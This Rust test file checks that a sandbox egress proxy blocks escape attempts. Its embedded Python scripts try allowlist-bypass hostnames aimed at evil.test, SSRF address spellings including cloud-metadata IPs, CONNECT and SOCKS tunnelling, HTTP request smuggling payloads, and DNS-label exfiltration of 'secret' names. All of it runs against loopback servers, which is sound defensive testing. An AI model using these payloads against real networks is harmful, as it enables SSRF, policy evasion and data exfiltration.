//! Against the list of hosts: whatever else a program with a network wants to reach, tell, or be told.
//! Every name leads to servers of this test on loopback, so what gets through is seen there, and nowhere
//! else.

use crate::egress::{LIB, behind_tls, port};
use crate::git_http::{HttpServer, begin, reply};
use crate::stage::{Stage, python};
use fumehood::policy::model::{NetworkMode, Policy};
use fumehood::protocol::net::HostRule;
use fumehood::protocol::spec::BackendKind;
use fumehood::sandbox::egress::{Egress, Grants, Outside, Report, Resolve, Witness};
use serde_json::Value;
use std::io::{Read, Write};
use std::net::{IpAddr, Ipv4Addr, TcpListener};
use std::sync::{Arc, Mutex};
use std::time::Duration;

const HERE: IpAddr = IpAddr::V4(Ipv4Addr::LOCALHOST);

/// Keeps what is told of connections.
#[derive(Default)]
struct Heard(Mutex<Vec<Report>>);

impl Witness for Heard {
    fn note(&self, report: Report) -> bool {
        self.0.lock().unwrap().push(report);
        true
    }
}

impl Heard {
    fn blocked(&self) -> Vec<String> {
        let reports = self.0.lock().unwrap();
        let blocked = reports.iter().filter_map(|report| match report {
            Report::Blocked { why, .. } => Some(why.clone()),
            _ => None,
        });
        blocked.collect()
    }

    fn sent(&self) -> u64 {
        let reports = self.0.lock().unwrap();
        let sent = reports.iter().map(|report| match report {
            Report::Closed { sent, .. } => *sent,
            _ => 0,
        });
        sent.sum()
    }
}

/// A sandbox with a network, and who watches over it.
struct Net {
    stage: Stage,
    heard: Arc<Heard>,
    /// Names that somebody was asked the addresses of.
    asked: Arc<Mutex<Vec<String>>>,
}

impl Net {
    /// `resolve` stands for the world's names.
    async fn open(
        kind: BackendKind,
        allow: Vec<HostRule>,
        change: impl FnOnce(&mut Policy),
        resolve: fn(&str) -> Vec<IpAddr>,
    ) -> Option<Self> {
        let heard = Arc::new(Heard::default());
        let asked = Arc::<Mutex<Vec<String>>>::default();
        let names = asked.clone();
        let resolver: Resolve = Arc::new(move |host, _| {
            let found = resolve(&host);
            names.lock().unwrap().push(host);
            Box::pin(async move { Ok(found) })
        });
        let outside = Outside::new(None, Vec::new()).resolving(resolver);
        let witness = heard.clone();
        let change = |policy: &mut Policy| {
            policy.network.mode = NetworkMode::Proxy;
            policy.network.allow = allow;
            policy.network.upload_bytes = None;
            policy.network.download_bytes = None;
            change(policy);
        };
        let stage = Stage::connected(kind, change, |network| {
            Arc::new(Egress::new(network, Grants::default(), outside, witness))
        });
        Some(Self {
            stage: stage.await?,
            heard,
            asked,
        })
    }

    /// What a script prints at last, which is JSON. `PLAIN` and `TLS` in it are ports.
    async fn python(&self, script: &str, ports: [u16; 2]) -> Value {
        let script = script
            .replace("PLAIN", &ports[0].to_string())
            .replace("TLS", &ports[1].to_string());
        let ran = self.stage.run(python(&format!("{LIB}\n{script}"))).await;
        let text = ran.text();
        let last = text.lines().last().unwrap_or_default();
        serde_json::from_str(last).unwrap_or_else(|error| panic!("{error}: {text}"))
    }
}

/// A host, at this test's servers.
fn listed(host: &str, ports: &[u16]) -> HostRule {
    HostRule {
        host: host.to_owned(),
        ports: ports.to_vec(),
        methods: Vec::new(),
        address: Some(HERE),
        source: None,
        private: false,
    }
}

fn nowhere(_: &str) -> Vec<IpAddr> {
    Vec::new()
}

/// `/reached` is where nobody may come.
fn server() -> (HttpServer, u16) {
    let server = HttpServer::start(|request, stream| match request.target.as_str() {
        "/away" => {
            let port = request.header("host").and_then(|host| host.split_once(':'));
            let away = format!("http://away.test:{}/reached", port.unwrap_or_default().1);
            begin(
                stream,
                "302 Found",
                &[("Location", &away), ("Content-Length", "0")],
            )
        }
        _ => reply(stream, "200 OK", &[], b"hello"),
    });
    let port = port(&server);
    (server, port)
}

/// Nothing came where nothing may, and what came besides was no mistake of the attempt's.
fn untouched(server: &HttpServer, got: &Value) {
    let requests = server.requests();
    let reached: Vec<_> = requests
        .iter()
        .filter(|request| request.target.contains("reached"))
        .map(|request| format!("{} {:?}", request.method, request.headers))
        .collect();
    assert!(reached.is_empty(), "reached: {reached:#?}\n{got:#}");
    assert!(!requests.is_empty(), "nothing came at all: {got:#}");
}

pub(crate) async fn hosts_that_nobody_listed(kind: BackendKind) {
    let ((server, plain), (other, unlisted)) = (server(), server());
    let allow = vec![listed("pkg.test", &[plain])];
    let Some(net) = Net::open(kind, allow, |_| {}, nowhere).await else {
        return;
    };
    let script = r#"
names = ["evil.test", "pkg.test.evil.test", "a.pkg.test", "evilpkg.test", "pkg.testevil", "xn--pkg-0na.test", "pkg.test@evil.test",
    "evil.test@pkg.test", "evil.test#pkg.test", "evil.test%00.pkg.test", "evil.test\\@pkg.test", "pkg.test:PLAIN@evil.test"]
def lines(*all): return raw("\r\n".join(all + ("", "")).encode())[:60]
def tunnel(name, port):
    return lines(f"CONNECT {name}:{port} HTTP/1.1", "", f"GET /reached HTTP/1.1", f"Host: {name}:{port}")
def proxied(name, port): return lines(f"GET http://{name}:{port}/reached HTTP/1.1", f"Host: {name}:{port}")
def socks(name, port):
    head = b"\5\1\0\5\1\0\3" + bytes([len(name)]) + name.encode() + port.to_bytes(2, "big")
    return raw(head + f"GET /reached HTTP/1.1\r\nHost: {name}:{port}\r\n\r\n".encode())[:60]
got = [[n, tunnel(n, PLAIN), proxied(n, PLAIN), socks(n, PLAIN)] for n in names]
got.append(["another port", tunnel("pkg.test", TLS), proxied("pkg.test", TLS), socks("pkg.test", TLS)])
got.append(["redirected", get("http://pkg.test:PLAIN/away")])
free()
got.append([[resolve(n), get(f"http://{n}:PLAIN/reached")] for n in ("evil.test", "a.pkg.test")])
got.append(["by name", get("http://pkg.test:TLS/reached"), get("http://pkg.test:PLAIN/away"), reach(("127.0.0.1", PLAIN)), get("http://pkg.test:PLAIN/fine")])
done(got)
"#;
    let got = net.python(script, [plain, unlisted]).await;
    untouched(&server, &got);
    assert!(other.requests().is_empty(), "{got:#}");
    let blocked = net.heard.blocked();
    for name in ["evil.test", "a.pkg.test", "away.test", "this port is not"] {
        let said = blocked.iter().any(|why| why.contains(name));
        assert!(said, "{name} went unsaid: {blocked:#?}");
    }
    assert!(net.asked.lock().unwrap().is_empty());
    net.stage.end().await;
}

pub(crate) async fn addresses_in_every_spelling(kind: BackendKind) {
    let (server, plain) = server();
    let allow = vec![listed("pkg.test", &[plain])];
    let Some(net) = Net::open(kind, allow, |_| {}, nowhere).await else {
        return;
    };
    let script = r#"
spellings = ["127.0.0.1", "2130706433", "0x7f000001", "0x7f.1", "0X7F.0.0.1", "127.1", "0177.0.0.1", "017700000001", "0",
    "127.0.0.1.", "[::1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::127.0.0.1]", "[64:ff9b::7f00:1]", "localhost", "localhost.",
    "169.254.169.254", "2852039166", "[fd00:ec2::254]", "metadata.google.internal", "pkg.test.127.0.0.1", "1.0.0.127.in-addr.arpa"]
def ask(text): return raw(text.encode())[:60]
got = [[s, ask(f"CONNECT {s}:PLAIN HTTP/1.1\r\n\r\nGET /reached HTTP/1.1\r\nHost: {s}:PLAIN\r\n\r\n"),
    ask(f"GET http://{s}:PLAIN/reached HTTP/1.1\r\nHost: {s}:PLAIN\r\n\r\n")] for s in spellings]
end = (PLAIN).to_bytes(2, "big") + b"GET /reached HTTP/1.1\r\nHost: x\r\n\r\n"
got += [raw(b"\5\1\0\5\1\0\1" + bytes(a) + end) for a in ((127, 0, 0, 1), (0, 0, 0, 0), (169, 254, 169, 254))]
got += [raw(b"\5\1\0\5\1\0\4" + a + end) for a in (b"\0" * 15 + b"\1", b"\0" * 10 + b"\xff\xff\x7f\0\0\1")]
got += [raw(b"\5\1\0\5\1\0\3" + bytes([len(s)]) + s.encode() + end) for s in spellings]
got += [raw(b"\4\1" + (PLAIN).to_bytes(2, "big") + b"\x7f\0\0\1x\0" + end[2:])]
got.append(get("http://pkg.test:PLAIN/fine"))
done(got)
"#;
    let got = net.python(script, [plain, 0]).await;
    untouched(&server, &got);
    let blocked = net.heard.blocked();
    for spelled in ["2130706433", "169.254.169.254", "::1", "localhost"] {
        let said = blocked.iter().any(|why| why.contains(spelled));
        assert!(said, "{spelled} went unsaid: {blocked:#?}");
    }
    assert!(net.asked.lock().unwrap().is_empty());
    net.stage.end().await;
}

/// Who answers for a listed name says that it is a place of this machine's.
pub(crate) async fn listed_names_that_lead_inside(kind: BackendKind) {
    let (server, plain) = server();
    let led = |name: &str| HostRule {
        address: None,
        ..listed(name, &[plain])
    };
    let mut allow: Vec<_> = ["loop.test", "any.test", "mapped.test", "*.many.test"]
        .map(led)
        .into();
    allow.push(listed("pkg.test", &[plain]));
    let resolve = |name: &str| {
        let mapped = Ipv4Addr::LOCALHOST.to_ipv6_mapped();
        match name {
            "loop.test" => vec![HERE],
            "any.test" => vec![Ipv4Addr::UNSPECIFIED.into()],
            "mapped.test" => vec![mapped.into()],
            _ => vec![mapped.into(), HERE, Ipv4Addr::UNSPECIFIED.into()],
        }
    };
    let Some(net) = Net::open(kind, allow, |_| {}, resolve).await else {
        return;
    };
    let script = r#"
names = ["loop.test", "any.test", "mapped.test", "a.many.test"]
def ask(text): return raw(text.encode())[:60]
got = [[n, ask(f"CONNECT {n}:PLAIN HTTP/1.1\r\n\r\nGET /reached HTTP/1.1\r\nHost: {n}:PLAIN\r\n\r\n"), get(f"http://{n}:PLAIN/reached")] for n in names]
got.append(get("http://pkg.test:PLAIN/fine"))
free()
got.append([get(f"http://{n}:PLAIN/reached") for n in names])
done(got)
"#;
    let got = net.python(script, [plain, 0]).await;
    untouched(&server, &got);
    let asked = net.asked.lock().unwrap().clone();
    for name in ["loop.test", "any.test", "mapped.test", "a.many.test"] {
        assert!(asked.iter().any(|one| one == name), "{name}: {asked:?}");
    }
    let said = net
        .heard
        .blocked()
        .iter()
        .any(|why| why.contains("loop.test"));
    assert!(said, "{:#?}", net.heard.blocked());
    net.stage.end().await;
}

/// To a listed host goes what is for another, which answers at the same address.
pub(crate) async fn tunnels_for_another_host(kind: BackendKind) {
    let (server, plain) = server();
    let tls = behind_tls(plain);
    let allow = ["pkg.test", "other.test"].map(|name| listed(name, &[plain, tls]));
    let Some(net) = Net::open(kind, allow.into(), |_| {}, nowhere).await else {
        return;
    };
    let script = r#"
context = ssl.create_default_context()
context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
def greet(where, name, path, first=b""):
    try:
        with socket.create_connection(where, timeout=60) as s:
            if first: s.sendall(first); s.recv(4096)
            with context.wrap_socket(s, server_hostname=name) as t:
                t.sendall(f"GET {path} HTTP/1.1\r\nHost: {name}\r\n\r\n".encode())
                return t.recv(60).decode()
    except OSError as e: return repr(e)
proxy, connect = ("127.0.0.1", 3128), b"CONNECT pkg.test:TLS HTTP/1.1\r\n\r\n"
others = ["other.test", "evil.test", "pkg.test.evil.test", None]
got = [[n, greet(("pkg.test", TLS), n, "/reached"), greet(proxy, n, "/reached", connect)] for n in others]
got.append(["fine", greet(("pkg.test", TLS), "pkg.test", "/fine"), greet(proxy, "pkg.test", "/fine", connect)])
def ask(*lines): return raw("\r\n".join(lines + ("", "")).encode())[:60]
open, own = "CONNECT pkg.test:PLAIN HTTP/1.1", "Host: pkg.test:PLAIN"
for name in ("other.test:PLAIN", "evil.test:PLAIN", "pkg.test:1", "evil.test"):
    host, at = f"Host: {name}", f"GET http://{name}/reached HTTP/1.1"
    got.append([name, ask("GET http://pkg.test:PLAIN/reached HTTP/1.1", host), ask("GET http://pkg.test:PLAIN/reached HTTP/1.1", own, host),
        ask(open, host, "", "GET /reached HTTP/1.1", own), ask(open, "", "GET /reached HTTP/1.1", host), ask(open, "", at, own),
        ask(open, "", "GET /reached HTTP/1.1", own, host), ask(open, "", f"CONNECT {name} HTTP/1.1", "", "GET /reached HTTP/1.1", host)])
got.append(["nobody", ask("GET http://pkg.test:PLAIN/reached HTTP/1.1"), ask(open, "", "SSH-2.0-reached"), ask(open, "", "\x00reached")])
done(got)
"#;
    let got = net.python(script, [plain, tls]).await;
    untouched(&server, &got);
    let blocked = net.heard.blocked();
    for said in ["for another host: other.test", "names no host"] {
        assert!(
            blocked.iter().any(|why| why.contains(said)),
            "{said}: {blocked:#?}"
        );
    }
    net.stage.end().await;
}

/// Keeps every byte that comes, and answers when no more do.
fn keeps_everything() -> (u16, Arc<Mutex<Vec<u8>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let kept = Arc::<Mutex<Vec<u8>>>::default();
    let all = kept.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let (Ok(mut stream), all) = (stream, all.clone()) else {
                return;
            };
            std::thread::spawn(move || {
                let quiet = Some(Duration::from_millis(700));
                stream.set_read_timeout(quiet).unwrap();
                let mut piece = [0; 64 << 10];
                while let Ok(count @ 1..) = stream.read(&mut piece) {
                    all.lock().unwrap().extend(&piece[..count]);
                }
                // Who asked may be gone.
                let _ = stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n");
            });
        }
    });
    (port, kept)
}

/// A request that is one to us and two to its host, or has a method that its rule does not list.
pub(crate) async fn requests_within_requests(kind: BackendKind) {
    let (plain, kept) = keeps_everything();
    let mut only_get = listed("get.test", &[plain]);
    only_get.methods = vec!["GET".to_owned()];
    let allow = vec![listed("pkg.test", &[plain]), only_get];
    let Some(net) = Net::open(kind, allow, |_| {}, nowhere).await else {
        return;
    };
    let script = r#"
host, hidden = "Host: pkg.test:PLAIN\r\n", "POST /hidden HTTP/1.1\r\nHost: pkg.test:PLAIN\r\n\r\n"
at = "POST http://pkg.test:PLAIN/post HTTP/1.1\r\n" + host
tries = ["Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n",
    "Content-Length: 4\r\nContent-Length: 0\r\n\r\n", "Content-Length: 0, 4\r\n\r\n", "Content-Length: +0\r\n\r\n", "Content-Length: 0x0\r\n\r\n",
    "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n", "Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n", "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
    "Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n", "Transfer-Encoding: chunked\r\n\r\n0;x=\r\n\r\n", "Transfer-Encoding: chunked\r\n\r\n00000000000000000\r\n\r\n",
    "Content-Length: 0\r\n\r\n", "X: a\r\n b\r\nContent-Length: 0\r\n\r\n", "X: a\n\n", "\x00: a\r\n\r\n", "Connection: Content-Length\r\nContent-Length: 0\r\n\r\n",
    "Upgrade: h2c\r\nConnection: Upgrade\r\n\r\n"]
got = [[t, raw((at + t + hidden).encode("latin-1"))[:60]] for t in tries]
got += [raw((at + "Content-Length: 2\r\n\r\nab" + hidden).encode())[:60], raw(("CONNECT pkg.test:PLAIN HTTP/1.1\r\n\r\n" + "GET /a HTTP/1.1\r\n" + host + "\r\n" + hidden).encode())[:90]]
def method(word, header=""): return raw(f"{word} http://get.test:PLAIN/hidden HTTP/1.1\r\nHost: get.test:PLAIN\r\n{header}\r\n".encode())[:60]
got += [method(w) for w in ("POST", "DELETE", "get", "GETX", "PUT")]
got += [method("GET", h + ": DELETE\r\n") for h in ("X-HTTP-Method-Override", "x_http_method_override", "X-Method-Override", "X-HTTP-Method")]
done(got)
"#;
    let got = net.python(script, [plain, 0]).await;
    let kept = String::from_utf8_lossy(&kept.lock().unwrap()).into_owned();
    assert!(!kept.contains("hidden"), "{kept}\n{got:#}");
    assert!(kept.contains("POST /post"), "nothing came at all: {got:#}");
    net.stage.end().await;
}

/// In bodies, in paths, in headers, in many small pieces: together no more than the policy says.
pub(crate) async fn more_than_may_be_uploaded(kind: BackendKind) {
    const MOST: u64 = 64 << 10;
    let (plain, kept) = keeps_everything();
    let allow = vec![listed("pkg.test", &[plain])];
    let limit = |policy: &mut Policy| policy.network.upload_bytes = Some(MOST);
    let Some(net) = Net::open(kind, allow, limit, nowhere).await else {
        return;
    };
    let script = r#"
at = "http://pkg.test:PLAIN/"
def chunks(): yield from (b"x" * 4096 for _ in range(40))
def chunked():
    try:
        c = http.client.HTTPConnection("127.0.0.1", 3128, timeout=60)
        c.request("POST", at, chunks(), {"Host": "pkg.test:PLAIN"}, encode_chunked=True)
        return c.getresponse().status
    except OSError as e: return repr(e)
got = [get(at + "x" * 2000) for _ in range(4)]
got += [chunked(), get(at, b"x" * (2 << 20))]
got += [get(at + "x" * 4000) for _ in range(20)]
got += [raw(f"GET {at} HTTP/1.1\r\nHost: pkg.test:PLAIN\r\nX: {'x' * 8000}\r\n\r\n".encode())[:60] for _ in range(10)]
done(got)
"#;
    let got = net.python(script, [plain, 0]).await;
    let sent = kept.lock().unwrap().len() as u64;
    assert!(sent > 4000, "nothing came at all: {got:#}");
    assert!(sent <= MOST && net.heard.sent() <= MOST, "{sent}: {got:#}");
    let blocked = net.heard.blocked();
    let said = |why: &String| why.contains("network.upload_bytes");
    assert!(blocked.iter().any(said), "{blocked:#?}");
    net.stage.end().await;
}

/// Whoever answers for a domain reads what is asked for: nobody is asked for what is not listed, and for
/// names beneath a listed one as much as may be uploaded.
pub(crate) async fn names_that_carry_data(kind: BackendKind) {
    const MOST: u64 = 2 << 10;
    let (server, plain) = server();
    let mut beneath = listed("*.pkg.test", &[plain]);
    beneath.address = None;
    let limit = |policy: &mut Policy| policy.network.upload_bytes = Some(MOST);
    let Some(net) = Net::open(kind, vec![beneath], limit, nowhere).await else {
        return;
    };
    let script = r#"
got = [query(f"secret-{n}.evil.test", kind, tcp) for n, kind in enumerate((1, 28, 16, 5, 255, 65)) for tcp in (False, True)]
got += [resolve(f"secret-{n}.evil.test") for n in range(20)]
got += [get(f"http://secret-{n}.evil.test:PLAIN/") for n in range(20)]
got += [get(f"http://{'x' * 50}-{n}.pkg.test:PLAIN/") for n in range(100)]
got += [raw(f"CONNECT {'y' * 50}-{n}.pkg.test:PLAIN HTTP/1.1\r\n\r\nGET / HTTP/1.1\r\nHost: {'y' * 50}-{n}.pkg.test:PLAIN\r\n\r\n".encode())[:60] for n in range(50)]
done(got)
"#;
    let got = net.python(script, [plain, 0]).await;
    let asked = net.asked.lock().unwrap().clone();
    assert!(!asked.is_empty(), "no name came through: {got:#}");
    let foreign = asked.iter().any(|name| name.contains("secret"));
    let told: usize = asked.iter().map(String::len).sum();
    assert!(!foreign && told as u64 <= MOST, "{told} bytes: {asked:#?}");
    assert!(server.requests().is_empty());
    net.stage.end().await;
}
